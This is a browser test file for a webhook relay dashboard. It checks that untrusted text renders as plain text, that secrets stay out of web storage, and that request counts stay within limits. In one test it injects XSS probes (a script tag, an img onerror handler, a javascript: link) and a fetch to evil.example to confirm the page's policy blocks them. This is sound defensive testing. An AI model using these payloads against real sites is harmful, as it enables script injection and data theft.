// Things that must never happen on the page: markup from strangers, secrets left behind, more requests than were allowed for.
import { expect } from "vitest";
import { quickAccounts } from "../support/quick-accounts.ts";
import { eventually } from "../support/until.ts";
import { picture, setUp } from "./browser.ts";
import { HOSTILE } from "./hostile.ts";
import { alone } from "./stage.ts";

/** Counts what a string that became markup would leave behind. */
const STRANGE =
  "document.querySelectorAll('main script, main img, main iframe, main object, main embed, main link, main base, main meta, main style, main video, main math, main template, main [style*=fixed], main a[href^=\"javascript\" i], main form[action]').length";

/** Rows of all that the page asks for while it only looks: counted, but never full. */
const WIDE_ROWS = Object.fromEntries(
  [
    "POST /auth/setup",
    "POST /auth/refresh",
    "GET /api-keys",
    "GET /event-types",
    "GET /transforms",
    "GET /relay/status",
    ...[
      "webhooks",
      "webhooks/{subscriptionId}",
      "webhooks/{subscriptionId}/deliveries",
      "events",
      "events/{eventId}",
      "stats",
      "stream",
      "audit",
    ].map((path) => `GET /api-keys/{keyId}/${path}`),
  ].map((row) => [row, { perMinute: 1_000, per5s: 1_000 }]),
);

alone("the page", (it, together) => {
  it("shows what strangers wrote as text and nothing but text", async (start) => {
    const script = (_: unknown, i: number) => ({ do: "reply", status: 500, body: HOSTILE[i] as string }) as const;
    const config = { health: false as const, subscriptions: { perKey: 60 } };
    const { page, go, relay, receiver, subscribe } = await start(config, { receiver: { script } });
    expect(HOSTILE).toHaveLength(50);
    const ids: string[] = [];
    await subscribe("/", { retry: { attempts: 1 } }, "key_1");
    for (const [i, text] of HOSTILE.entries()) {
      ids.push((await relay.publish({ type: "deposit:paid", keyId: "key_1", data: { text } })).json.data.id);
      await receiver.waitFor(i + 1);
    }
    for (const description of HOSTILE)
      await subscribe("/", { events: ["a"], description, headers: { "X-A": "b" } }, "key_2");
    await go("k/key_1/events", "Events");
    for (const [i, id] of ids.entries()) {
      await page.evaluate(`location.hash = "#/k/key_1/events/${id}"`);
      await page.locator(".kicker", { hasText: id }).waitFor();
      const excerpt = page.locator(".excerpt pre");
      await excerpt.waitFor();
      expect(await excerpt.textContent()).toBe(HOSTILE[i]);
      await page.getByRole("button", { name: "Raw" }).click();
      expect(await page.locator("section[aria-labelledby=data] pre").textContent()).toBe(
        JSON.stringify({ text: HOSTILE[i] }),
      );
      if (i % 10 === 0) {
        await page.getByText("What was sent").click();
        await page.getByLabel("The request", { exact: true }).waitFor();
      }
      expect([HOSTILE[i], await page.evaluate(STRANGE)]).toEqual([HOSTILE[i], 0]);
    }
    await go("k/key_2/subscriptions", "Subscriptions");
    await page.locator("tbody tr").nth(49).waitFor();
    const told = await page.locator(".endpoint a").evaluateAll((all) => all.map(({ textContent }) => textContent));
    expect(told.toSorted()).toEqual([...HOSTILE].toSorted());
    await picture(page, "hostile");
    await page.locator(".endpoint a").first().click();
    await page.getByRole("heading", { level: 1, name: HOSTILE[0] as string }).waitFor();
    // The title follows what is drawn.
    await expect.poll(() => page.title()).toBe(`${HOSTILE[0]} · Relaybox`);
    expect(await page.evaluate(STRANGE)).toBe(0);
    expect(await page.evaluate("window.pwned")).toBeUndefined();
    expect(await page.evaluate("({}).pwned")).toBeUndefined();
  });

  it("keeps no secret where scripts of later days could find it, and its policy stops what is put into it", async (start) => {
    const { page, go } = await start({}, { complains: true });
    await go("k/key_1/subscriptions", "Subscriptions");
    const kept = (): Promise<unknown> =>
      page.evaluate("JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie])");
    // The key is kept once it has been drawn.
    await expect.poll(kept).toBe('[{},{"relay.key":"key_1"},""]');
    const [cookie] = await page.context().cookies();
    expect(cookie).toMatchObject({ name: "__Host-relay", httpOnly: true, secure: true, sameSite: "Strict", path: "/" });
    await page.getByRole("button", { name: /^Theme/ }).click();
    expect(await page.evaluate("JSON.stringify({ ...localStorage })")).toBe('{"relay.theme":"light"}');
    expect(await page.evaluate("document.documentElement.dataset.theme")).toBe("light");
    // Even somebody who could write into the page could not run anything there, nor send anything away.
    await page.evaluate(
      "(() => { const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.body.append(s); })()",
    );
    await page.evaluate(
      "(() => { const d = document.createElement('div'); d.innerHTML = '<img src=x onerror=window.pwned=1><a href=javascript:window.pwned=1 id=trap>x</a>'; document.body.append(d); })()",
    );
    await page.evaluate("document.getElementById('trap').click()");
    expect(await page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'refused')")).toBe("refused");
    expect(await page.evaluate("window.pwned")).toBeUndefined();
  });

  it("costs four limited requests a view at most, reloads included", async (start) => {
    const { page, limited, relay, receiver, screen } = await start({ limits: WIDE_ROWS }, { account: false });
    const made = await relay.call("POST", "/api-keys/key_1/webhooks", {
      body: { url: receiver.url(), events: ["*"], description: "Counted" },
    });
    const { id } = (await relay.publish({ type: "deposit:paid", keyId: "key_1", data: 1 })).json.data;
    await receiver.waitFor(1);
    await setUp(relay, screen);
    const settled = async (): Promise<void> => {
      await page.getByRole("heading", { level: 1 }).waitFor();
      await page.waitForLoadState("load");
      await expect.poll(() => page.locator(".skeleton").count()).toBe(0);
      // By now it has asked for what the answer led to.
      await page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done, 100)))");
    };
    // The set-up leads to a view, and what that asks for is not the first one's of the list.
    await page.getByText("Events accepted").waitFor();
    await settled();
    const sub = made.json.data.id;
    const views = [
      "",
      "k/key_1/overview",
      "k/key_1/subscriptions",
      `k/key_1/subscriptions/${sub}`,
      `k/key_1/subscriptions/${sub}/deliveries`,
      "k/key_1/events",
      `k/key_1/events/${id}`,
      "k/key_1/types",
      "k/key_1/audit",
      "relay",
      "account",
      "keys",
    ];
    for (const view of views) {
      for (const how of ["opened", "reloaded"]) {
        limited.length = 0;
        if (how === "opened") await page.goto(`${relay.url}/developers#/${view}`);
        else await page.reload();
        await settled();
        expect([view, how, limited.length <= 4, limited]).toEqual([view, how, true, limited]);
      }
    }
    // Without any memory of a key it has to ask for the keys first, and is no dearer for it.
    await page.evaluate("sessionStorage.clear()");
    limited.length = 0;
    await page.goto(`${relay.url}/developers?fresh`);
    await page.getByText("Events accepted").waitFor();
    await expect.poll(() => page.locator(".plot canvas").count()).toBe(4);
    expect(limited.toSorted()).toEqual([
      "GET /api-keys",
      "GET /api-keys/key_1/attention",
      "GET /api-keys/key_1/stats",
      "POST /auth/refresh",
    ]);
  });

  // These two mostly wait, so they do it at the same time.
  together("waits a refusal out, says so, and goes on by itself", async (start) => {
    const { page, go, relay } = await start({
      limits: {
        "GET /api-keys/{keyId}/events": { perMinute: 60, per5s: 1 },
        "POST /auth/refresh": { perMinute: 60, per5s: 1 },
      },
    });
    await go("k/key_1/events", "Events");
    await page.getByRole("heading", { name: "No event yet" }).waitFor();
    await page.getByLabel("Status").selectOption("failed");
    await page.getByText("BURST_EXCEEDED").first().waitFor();
    await page.getByText(/It goes on by itself in \d s/).waitFor();
    await picture(page, "waiting", false);
    await page.getByRole("heading", { name: "No event matches" }).waitFor();
    expect(await page.getByText(/It goes on by itself/).count()).toBe(0);
    // A reload takes the session up again, which has a limit too.
    await page.reload();
    await page.getByRole("button", { name: "Log out" }).waitFor();
    await page.reload();
    await page
      .getByText(/It goes on by itself/)
      .first()
      .waitFor();
    await page.getByRole("heading", { name: "No event matches" }).waitFor();
    // And it stands in the figures.
    const stats = await relay.call("GET", "/api-keys/key_1/stats");
    expect(stats.json.data.totals.refused.BURST_EXCEEDED).toBeGreaterThan(0);
  });

  together("stays live beyond the life of a token, whose stream ends with it", async (start) => {
    const { page, go, limited, relay } = await start({ auth: quickAccounts({ tokenMs: 10_000 }) });
    const streams: string[] = [];
    page.on("response", (response) => {
      if (new URL(response.url()).pathname.endsWith("/stream"))
        streams.push(String(response.request().headers()["authorization"]));
    });
    await go("k/key_1/events", "Events");
    await page.getByText("live", { exact: true }).waitFor();
    await eventually("there are two streams", () => streams.length === 2, 60_000);
    expect(streams[0]).not.toBe(streams[1]);
    await page.getByText("live", { exact: true }).waitFor();
    const { id } = (await relay.publish({ type: "deposit:paid", keyId: "key_1", data: 1 })).json.data;
    await page.getByRole("link", { name: id }).waitFor();
    expect(limited.filter((one) => one === "POST /auth/refresh").length).toBeLessThan(4);
  });
});
